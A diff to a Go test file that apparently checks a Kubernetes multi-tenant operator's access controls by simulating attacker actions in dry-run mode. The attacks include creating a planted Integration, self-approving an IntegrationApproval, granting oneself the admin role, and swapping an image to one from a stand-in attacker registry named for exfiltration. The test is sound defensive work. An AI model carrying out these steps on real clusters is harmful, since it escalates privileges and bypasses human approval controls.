@@ -154,6 +154,20 @@ var attacks = map[string]func(a attacker) error{
 		in.Spec.Image = "registry.attacker.example/exfiltrate:1"
 		return a.client.Update(ctx, in, dryRun)
 	},
+	// A second Integration like the tenant's own (edit holders may, through tenantwire-edit).
+	"create an Integration": func(a attacker) error {
+		in := &twv1.Integration{}
+		if err := a.client.Get(ctx, client.ObjectKey{Namespace: nsA, Name: records}, in); err != nil {
+			return err
+		}
+		planted := &twv1.Integration{ObjectMeta: metav1.ObjectMeta{Namespace: nsA, Name: "planted"}, Spec: in.Spec}
+		return a.client.Create(ctx, planted, dryRun)
+	},
+	// Approving a flow oneself, which only the Tenant's approvers may.
+	"create an IntegrationApproval": func(a attacker) error {
+		return a.client.Create(ctx, &twv1.IntegrationApproval{ObjectMeta: metav1.ObjectMeta{Namespace: nsA, Name: "self-approved"},
+			Spec: twv1.IntegrationApprovalSpec{Integration: records, FlowDigest: "sha256:" + strings.Repeat("0", 64), ApprovedBy: "anyone"}}, dryRun)
+	},
 	// Granting oneself the built-in admin role in the tenant namespace.
 	"create RoleBindings": func(a attacker) error {
 		return a.client.Create(ctx, &rbacv1.RoleBinding{
